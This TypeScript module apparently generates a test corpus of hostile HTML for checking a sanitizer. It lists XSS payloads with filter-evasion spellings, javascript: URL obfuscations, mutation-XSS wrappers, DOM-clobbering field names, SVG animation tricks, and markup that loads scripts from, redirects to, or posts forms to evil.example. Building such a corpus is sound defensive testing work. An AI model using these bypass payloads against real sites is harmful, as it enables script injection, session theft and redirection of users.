/** Markup that runs `top.ran.push(index)` in an unprotected page, or does other harm. */
export interface HostilePayload {
  readonly index: number
  readonly html: string
}

/** The code of a payload. It has no quotes, so that it can be inserted anywhere. */
const code = "top.ran.push(INDEX)"

const handlerElements = [
  ...["a", "abbr", "b", "button", "details", "div", "form", "img", "input", "label", "li", "marquee", "p", "section"],
  ...["span", "strong", "svg", "textarea", "video", "x-element"],
]
const handlerEvents = ["click", "mouseover", "focus", "keydown", "pointerdown", "wheel"]

/** Handlers that fire without user action, and spellings that a careless filter misses. */
const handlerSpellings = [
  `<img src=/missing onerror=${code}>`,
  `<img src=/missing ONERROR="${code}">`,
  `<img/src=/missing/onerror=${code}>`,
  `<img\tsrc=/missing\tonerror=${code}>`,
  `<img\nsrc=/missing\nonerror\n=\n"${code}">`,
  `<img src=/missing onerror="&#116;op.ran.push(INDEX)">`,
  `<img src=/missing onerror=a=1 onerror=${code}>`,
  `<img """><script>${code}</script>">`,
  `<img src="x\`><script>${code}</script>"\`>`,
  `<img src=/missing alt="</p>" onerror=${code} x='>'>`,
  `<img src=/missing x:onerror=${code} onerror=${code}>`,
  `<image src=/missing onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg/onload=${code}//`,
  `<svg><svg onload=${code}></svg></svg>`,
  `<video><source src=/missing onerror=${code}></video>`,
  `<audio src=/missing onerror=${code}></audio>`,
  `<input type=image src=/missing onerror=${code}>`,
  `<details open ontoggle=${code}>x</details>`,
  `<input autofocus onfocus=${code}>`,
  `<div tabindex=0 onfocusin=${code}>x</div>`,
  `<iframe onload=${code}></iframe>`,
  `<iframe srcdoc="<img src=/missing onerror=${code}>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  `<style onload=${code}>p{color:red}</style>`,
  `<link rel=stylesheet href=/style.css onload=${code}>`,
  `<object data=/missing onerror=${code}></object>`,
  `<embed src=/missing onerror=${code}>`,
  `<body onload=${code}>`,
  `<p onclick=${code} ONCLICK=${code} contenteditable>x</p>`,
]

const addressPlaces = [
  '<a href="ADDRESS">x</a>',
  '<a xlink:href="ADDRESS" href="ADDRESS">x</a>',
  '<map name=m><area shape=default href="ADDRESS"></map>',
  '<form action="ADDRESS"><button>x</button></form>',
  '<form><button formaction="ADDRESS">x</button></form>',
  '<form><input type=submit formaction="ADDRESS"></form>',
  '<form><input type=image formaction="ADDRESS" src=/x></form>',
  '<iframe src="ADDRESS"></iframe>',
  '<embed src="ADDRESS">',
  '<object data="ADDRESS"></object>',
  '<svg><a href="ADDRESS"><text y=20>x</text></a></svg>',
  '<svg><a xlink:href="ADDRESS"><text y=20>x</text></a></svg>',
  '<svg><use href="ADDRESS#x"></use></svg>',
  '<math href="ADDRESS"><mtext>x</mtext></math>',
  '<base href="ADDRESS"><a href="#">x</a>',
  '<link rel=stylesheet href="ADDRESS">',
]
/** Addresses that run code, in spellings that a careless filter misses. */
export const addressSpellings = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `  javascript:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  `\u0001javascript:${code}`,
  `javascript\r:${code}`,
  `&#106;avascript:${code}`,
  `&#x0000006A;avascript&colon;${code}`,
  `java&Tab;script&#58;${code}`,
  `javascript://shop.example/%0a${code}`,
  `javascript:/*'/*\\"/*&quot;*/${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `vbscript:${code}`,
]

const innerPayloads = [
  `<script>${code}</script>`,
  `<img src=/missing onerror=${code}>`,
  `<svg onload=${code}></svg>`,
  `<a href="javascript:${code}">x</a>`,
]
/** Contexts in which a parser reads markup by other rules, or differently when it parses the output again. */
const wrappers = [
  "<svg>INNER</svg>",
  "<svg><foreignObject>INNER</foreignObject></svg>",
  "<svg><desc>INNER</desc></svg>",
  "<svg><title>INNER</title></svg>",
  "<svg><style>INNER</style></svg>",
  "<svg></p><style><a title='</style>INNER'></svg>",
  "<svg><![CDATA[><b>]]>INNER</svg>",
  "<math>INNER</math>",
  "<math><mtext>INNER</mtext></math>",
  "<math><annotation-xml encoding='text/html'>INNER</annotation-xml></math>",
  "<math><mtext><table><mglyph><style><!--</style><b title='--&gt;'>INNER</b>",
  "<form><math><mtext></form><form><mglyph><style></math>INNER",
  "<template>INNER</template>INNER",
  "<template><template>INNER</template></template>INNER",
  "<div><template shadowrootmode=open>INNER</template></div>INNER",
  "<noscript>INNER</noscript>INNER",
  "<noscript><p title='</noscript>INNER'></p>",
  "<select>INNER</select>INNER",
  "<select><option>INNER</option></select>INNER",
  "<table>INNER</table>",
  "<table><caption>INNER</caption></table>",
  "<tr><td>INNER</td></tr>",
  "<style>INNER</style>INNER",
  "<title>INNER</title>INNER",
  "<textarea>INNER</textarea>INNER",
  "<textarea></textarea>INNER",
  "<xmp>INNER</xmp>INNER",
  "<noembed>INNER</noembed>INNER",
  "<!--INNER-->INNER",
  "<!-->INNER-->",
  "<!--a--!>INNER-->",
  "<?php INNER ?>INNER",
  "</p></div></body></html>INNER",
  '<p title="INNER">x</p>INNER',
  "<b><i><b></i>INNER</b>",
  "<a><a>INNER</a></a>",
  "<dialog open>INNER</dialog>",
  "<button popovertarget=x>x</button><div popover id=x>INNER</div>",
  `${"<div>".repeat(600)}INNER`,
]

/** Names of fields that shadow the DOM members that a sanitizer uses. */
const clobberingNames = [
  ...["attributes", "getAttributeNames", "getAttribute", "removeAttribute", "setAttribute", "hasAttribute"],
  ...["localName", "nodeName", "tagName", "nodeType", "namespaceURI", "parentNode", "childNodes", "children"],
  ...["firstChild", "remove", "replaceWith", "content", "querySelectorAll", "matches", "closest", "ownerDocument"],
]

const animations = [
  `<svg><a><animate attributeName=href values=javascript:${code} /><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=xlink:href begin=0 from=javascript:${code} to=# /><text y=20>x</text></a></svg>`,
  `<svg><a><set attributeName=href to=javascript:${code} /><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  `<svg><animateTransform onbegin=${code} attributeName=transform dur=1s></svg>`,
  `<svg><animateMotion onbegin=${code} dur=1s></svg>`,
  `<svg><set onbegin=${code} attributeName=x to=1></svg>`,
  `<svg><discard onbegin=${code} begin=0s></svg>`,
]

/** Markup that redirects the page, its forms or its relative addresses, or loads a style sheet. */
const departures = [
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=content-security-policy content="default-src none">',
  '<base href="https://evil.example/">',
  "<base target=evil>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="https://evil.example/">',
  '<link rel=preload as=script href="https://evil.example/x.js">',
  '<object data="https://evil.example/"></object>',
  '<object type="text/html" data="/x"><param name=movie value=/x></object>',
  '<embed src="https://evil.example/x.swf">',
  "<applet code=x></applet>",
  '<form action="https://evil.example/"><input name=q></form>',
  '<form action="//evil.example/"><input name=q></form>',
  '<button formaction="/\\evil.example/">x</button>',
  '<form action="https:evil.example@evil.example/"><input name=q></form>',
  '<script src="https://evil.example/x.js"></script>',
  '<svg><script href="https://evil.example/x.js"></script></svg>',
  '<svg><script xlink:href="https://evil.example/x.js"/></svg>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script type=importmap>{"imports":{}}</script>',
  "<script type=speculationrules>{}</script>",
]

/** Creates all payloads, each with its own index in its code. */
export function createHostilePayloads(): readonly HostilePayload[] {
  const handlers = handlerElements.flatMap((element) =>
    handlerEvents.map((event) => `<${element} tabindex=0 on${event}=${code}>x</${element}>`),
  )
  const addresses = addressPlaces.flatMap((place) =>
    addressSpellings.map((address) => place.replaceAll("ADDRESS", address)),
  )
  const wrapped = wrappers.flatMap((wrapper) => innerPayloads.map((inner) => wrapper.replaceAll("INNER", inner)))
  const clobbering = clobberingNames.flatMap((name) =>
    [`onclick="${code}"`, `action="javascript:${code}"`].map(
      (attribute) => `<form ${attribute}><input name=${name}><input name=${name}><button>x</button></form>`,
    ),
  )
  const all = [...handlerSpellings, ...handlers, ...addresses, ...innerPayloads, ...wrapped, ...clobbering]
  return [...all, ...animations, ...departures].map((html, index) => ({
    index,
    html: html.replaceAll("INDEX", String(index)),
  }))
}
